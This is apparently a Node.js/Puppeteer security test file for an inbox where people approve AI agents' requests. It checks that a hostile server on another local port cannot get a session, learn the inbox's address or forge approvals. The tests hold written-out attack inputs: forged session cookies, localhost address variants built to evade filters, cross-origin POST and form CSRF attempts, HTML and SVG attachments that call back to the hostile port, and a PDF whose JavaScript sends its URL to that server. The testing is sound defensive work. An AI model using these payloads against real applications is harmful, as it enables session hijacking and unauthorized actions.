// An agent with a server on another port of this machine: whatever a person opens or clicks there, the
// agent gets no session, does not learn the inbox's address, and can neither decide, read nor write.
import assert from "node:assert/strict";
import { once } from "node:events";
import { createServer } from "node:http";
import { after, before, test } from "node:test";
import { World } from "./world.mjs";

let world;
let agent; // its server, and the requests it received
before(async () => {
  world = await World.start();
  agent = { requests: [], page: "<!doctype html><title>Preview</title>" };
  agent.server = createServer((request, response) => {
    agent.requests.push({ url: request.url, headers: request.headers });
    response.setHeader("Content-Type", "text/html");
    // The cookie would sign the person out, or in as another user.
    const parents = ["", "; Domain=localhost", "; Domain=.localhost"];
    response.setHeader("Set-Cookie", parents.map((parent) => `access_token=hs_evil; Path=/${parent}`));
    response.end(agent.page);
  }).listen(0, "127.0.0.1");
  await once(agent.server, "listening");
  agent.port = agent.server.address().port;
});
after(async () => {
  agent.server.close();
  agent.server.closeAllConnections();
  await world.stop();
});

const host = () => new URL(world.inboxUrl).hostname;
const pending = async (id) => (await world.agent("GET", `/api/v1/reviews/${id}?channel=${world.channelId}`)).review.status;
// Asserts that no request to the agent has a session or names the inbox.
function assertNothingLeaked() {
  for (const { url, headers } of agent.requests) {
    assert.ok([undefined, "access_token=hs_evil"].includes(headers.cookie), url); // the agent's own cookie
    assert.ok(!JSON.stringify([url, headers]).includes(host()), JSON.stringify([url, headers]));
  }
}

test("the agents' address redirects a person to the inbox and to the requested page", async () => {
  const { id } = await world.send({ text: "Wanted", review: { type: "approval" } });
  const page = await world.visitor();
  for (const address of [world.url, world.url.replace("127.0.0.1", "localhost")]) {
    await page.goto(`${address}/reviews/${id}`);
    assert.equal(page.url(), `${world.inboxUrl}/login?next=${encodeURIComponent(`/reviews/${id}`).replace("_", "%5F")}`);
  }
  await page.type("[name=email]", world.email);
  await page.type("[name=password]", world.password);
  await Promise.all([page.waitForNavigation(), page.click("form button")]);
  assert.equal(page.url(), `${world.inboxUrl}/reviews/${id}`);
  const cookies = await page.browserContext().cookies();
  // The session, and the device cookie.
  assert.deepEqual(cookies.map((it) => it.name.replace(/_01.*/, "")).sort(), ["access_token", "device"]);
  for (const it of cookies) assert.deepEqual([it.domain, it.httpOnly, it.sameSite], [host(), true, "Lax"]);
  assert.deepEqual(page.problems.filter((it) => !it.startsWith("request: http://localhost:")), []);
  await page.browserContext().close();
});

test("links to this machine are shown as addresses that can only be copied", async () => {
  const { port } = agent;
  const addresses = [
    `http://127.0.0.1:${port}/preview`, `http://localhost:${port}/`, `http://2130706433:${port}/`, `http://0x7f.1:${port}/`,
    `http://[::ffff:127.0.0.1]:${port}/`, `//127.0.0.1:${port}/`, `http:\\\\127.0.0.1:${port}`, `http://evil.localhost:${port}/`,
    `http://${host()}:${port}/`, `http://user@127.0.0.1:${port}/`,
  ];
  const text = addresses.map((it, at) => `[number ${at}](<${it}>)`).join("\n\n");
  const file = await world.file("plan.md", "text/markdown", `${text}\n\n<http://127.0.0.1:${port}/auto>\n\n[out](https://example.com)`);
  const { id } = await world.send({ text, attachmentIds: [file.id], review: { type: "approval", payload: { options: [{ id: "a", label: `[x](http://127.0.0.1:${port})` }] } } });
  const page = await world.signedIn();
  await page.browserContext().overridePermissions(world.inboxUrl, ["clipboard-read", "clipboard-sanitized-write"]);
  agent.requests.length = 0;
  for (const path of [`/reviews/${id}`, `/channels/${world.channelId}`, `/files/${file.id}`]) {
    await page.goto(world.inboxUrl + path);
    await page.waitForSelector(".md code.address");
    const links = await page.$$eval("a[href]", (all) => all.map((it) => it.href));
    assert.deepEqual(links.filter((it) => new URL(it).host !== new URL(world.inboxUrl).host && it !== "https://example.com/"), []);
    for (const address of await page.$$(".md code.address")) await address.click();
    assert.ok(page.url().startsWith(world.inboxUrl + path));
  }
  await page.goto(`${world.inboxUrl}/reviews/${id}`);
  const shown = await page.$$eval(".card.body > .md code.address", (all) => all.map((it) => it.textContent));
  assert.deepEqual(shown.map((it) => decodeURI(it)), addresses.map((it) => it.replace("\\\\", "\\"))); // Markdown unescapes one of two backslashes
  await page.bringToFront();
  await page.click(".md .copy-address");
  await page.waitForFunction(() => document.getElementById("toasts").innerText.includes("Copied"));
  assert.equal(await page.evaluate(() => navigator.clipboard.readText()), addresses[0]);
  assert.deepEqual(agent.requests, []);
  assert.deepEqual(page.problems, []);
  await page.browserContext().close();
});

test("a page on another port gets no session and does not learn the inbox's address", async () => {
  const page = await world.signedIn();
  agent.requests.length = 0;
  for (const name of ["127.0.0.1", "localhost", "evil.localhost"]) {
    await page.goto(`http://${name}:${agent.port}/`);
  }
  assert.equal(agent.requests.filter((it) => it.url === "/").length, 3);
  // It tries everything with the agents' address, which redirects to the inbox.
  const learned = await page.evaluate(async (url) => {
    const results = [];
    for (const options of [{}, { mode: "no-cors" }, { redirect: "manual" }, { mode: "no-cors", redirect: "manual", credentials: "include" }, { credentials: "include" }]) {
      results.push(await fetch(`${url}/`, options).then((it) => [it.url, it.status, ...it.headers].join(), (error) => String(error.stack)));
    }
    addEventListener("securitypolicyviolation", (event) => results.push(event.blockedURI));
    for (const tag of ["img", "script", "iframe", "embed", "link"]) {
      const element = document.createElement(tag);
      Object.assign(element, tag === "link" ? { rel: "stylesheet", href: `${url}/` } : { src: `${url}/` });
      await new Promise((resolve) => {
        element.onload = element.onerror = resolve;
        setTimeout(resolve, 2_000); // not every browser reports each event
        document.body.append(element);
      });
      try {
        results.push(element.contentWindow?.location.href, element.contentDocument?.URL, element.sheet?.href);
      } catch (error) {
        results.push(String(error));
      }
    }
    results.push(...performance.getEntries().map((it) => it.name), document.cookie, document.referrer, ...(location.ancestorOrigins ?? []));
    return results.join("\n");
  }, world.url);
  assert.ok(!learned.includes(host()), learned);
  assertNothingLeaked();
  await page.goto(`${world.inboxUrl}/settings`); // still signed in
  assert.equal(new URL(page.url()).pathname, "/settings");
  await page.browserContext().close();
});

test("a page on another port that knows the inbox can neither decide, read nor write", async () => {
  const { id } = await world.send({ text: "May I?", review: { type: "approval" } });
  const page = await world.signedIn();
  await page.goto(`http://127.0.0.1:${agent.port}/`);
  const key = (await world.owner("GET", "/api/api-keys"))[0].id;
  const paths = [`/reviews/${id}`, `/api/messages/${id}/respond`, "/logout", "/api/auth/logout", "/api/auth/refresh", `/api/agents/${world.channelId}/read`, `/api/api-keys/${key}/rotate`, "/api/files/upload", "/api/files/store", `/api/agents/${world.channelId}/avatar`, "/login"];
  const read = await page.evaluate(async (origins, paths) => {
    const read = [];
    const body = () => {
      const form = new FormData();
      form.set("option", "approve");
      return form;
    };
    for (const origin of origins) {
      for (const path of paths) {
        for (const [kind, content] of [["text/plain", '{"response":{"selectedOption":"approve"}}'], ["application/x-www-form-urlencoded", "option=approve"], ["application/json", '{"response":{"selectedOption":"approve"}}'], [undefined, body()]]) {
          for (const mode of ["no-cors", "cors"]) {
            await fetch(origin + path, { method: "POST", mode, credentials: "include", headers: kind ? { "Content-Type": kind } : {}, body: content })
              .then((it) => it.type === "opaque" || read.push(`${path} ${it.status}`), () => {});
          }
        }
        // A form, in a frame and in a window.
        for (const target of ["frame", "_blank"]) {
          const frame = Object.assign(document.createElement("iframe"), { name: "frame" });
          const form = Object.assign(document.createElement("form"), { method: "post", action: origin + path, target });
          form.innerHTML = "<input name=option value=approve>";
          document.body.append(frame, form);
          if (target === "frame") {
            const loaded = new Promise((resolve) => (frame.onload = resolve));
            form.submit();
            await Promise.race([loaded, new Promise((resolve) => setTimeout(resolve, 1_000))]);
          } else form.submit();
          frame.remove();
          form.remove();
        }
      }
      for (const path of ["/api/auth/me", "/api/messages/reviews", "/"]) {
        await fetch(origin + path, { credentials: "include" }).then(async (it) => read.push(await it.text()), () => {});
      }
    }
    return read;
  }, [world.url, world.inboxUrl], paths);
  assert.deepEqual(read, []);
  assert.equal(await pending(id), "pending");
  assert.equal((await world.agent("GET", "/api/v1/agents")).length, 1); // its key was not rotated
  assert.deepEqual((await world.owner("GET", "/api/files")).data.filter((it) => it.filename === "blob"), []);
  const inbox = await page.browserContext().newPage();
  await inbox.goto(`${world.inboxUrl}/reviews/${id}`);
  await inbox.waitForSelector("#review"); // still signed in, and the page's own form works
  await inbox.click("[value=approve]");
  await inbox.waitForSelector("#answer .outcome");
  assert.equal(await pending(id), "completed");
  assertNothingLeaked();
  await page.browserContext().close();
});

test("files and plugins of agents get no address of the inbox, and links from them send none", async () => {
  const link = `<a id="away" href="http://127.0.0.1:${agent.port}/away" target="_top">away</a><form action="http://127.0.0.1:${agent.port}/form" method="post"><button>x</button></form><meta http-equiv="refresh" content="0;url=http://127.0.0.1:${agent.port}/refresh"><img src="http://127.0.0.1:${agent.port}/img">`;
  const html = await world.file("page.html", "text/html", link);
  const svg = await world.file("p.svg", "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg"><image href="http://127.0.0.1:${agent.port}/svg"/></svg>`);
  const { id } = await world.send({ text: "Look", metadata: { plugin: "status-card", title: "t", status: "success" }, attachmentIds: [html.id, svg.id] , review: { type: "approval" } });
  const page = await world.signedIn();
  const referers = [];
  page.on("request", (request) => request.frame() !== page.mainFrame() && referers.push(request.headers().referer));
  agent.requests.length = 0;
  await page.goto(`${world.inboxUrl}/reviews/${id}`, { waitUntil: "networkidle2" });
  await page.$$eval("iframe", (all) => all.forEach((it) => it.scrollIntoView()));
  const plugin = await page.waitForFrame((frame) => frame.url().includes("/render"));
  assert.equal(await plugin.evaluate(() => document.referrer), "");
  await page.waitForFrame((frame) => frame.url().includes("/frame"));
  assert.ok(referers.length >= 2);
  assert.deepEqual(referers.filter((it) => it), []);
  // A file opened on its own may follow its link, but without a referrer.
  await page.goto(`${world.inboxUrl}/api/files/${html.id}/download`);
  if (page.url().startsWith(world.inboxUrl)) await Promise.all([page.waitForNavigation(), page.click("#away")]);
  assert.ok(page.url().startsWith(`http://127.0.0.1:${agent.port}/`), page.url());
  assertNothingLeaked();
  await page.browserContext().close();
});

// A PDF whose script shows its own URL and sends it to the agent.
function pdf(script) {
  const objects = ["<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>", "<</Type/Pages/Kids[3 0 R]/Count 1>>", "<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]>>", `<</S/JavaScript/JS(${script.replace(/[()\\]/g, "\\$&")})>>`];
  let out = "%PDF-1.7\n";
  const at = objects.map((object, n) => {
    const start = out.length;
    out += `${n + 1} 0 obj\n${object}\nendobj\n`;
    return `${String(start).padStart(10, "0")} 00000 n \n`;
  });
  const table = out.length;
  return `${out}xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${at.join("")}trailer<</Size ${objects.length + 1}/Root 1 0 R>>\nstartxref\n${table}\n%%EOF`;
}

test("a script in a PDF does not learn the inbox's address", async () => {
  const file = await world.file("offer.pdf", "application/pdf", pdf(`app.alert("at " + this.URL); this.submitForm({ cURL: "http://127.0.0.1:${agent.port}/pdf?" + this.URL })`));
  const { id } = await world.send({ text: "Look", attachmentIds: [file.id], review: { type: "approval" } });
  const page = await world.signedIn();
  for (const path of [`/reviews/${id}`, `/files/${file.id}`, `/api/files/${file.id}/download`]) {
    const results = new Promise((resolve) => page.once("dialog", async (dialog) => {
      await dialog.dismiss();
      resolve(dialog.message());
    }));
    page.goto(world.inboxUrl + path).catch(() => {}); // the dialog may block the navigation
    const message = await results;
    assert.ok(message.startsWith("at http://127.0.0.1:") && !message.includes(host()), message);
  }
  assertNothingLeaked();
  await page.browserContext().close();
});
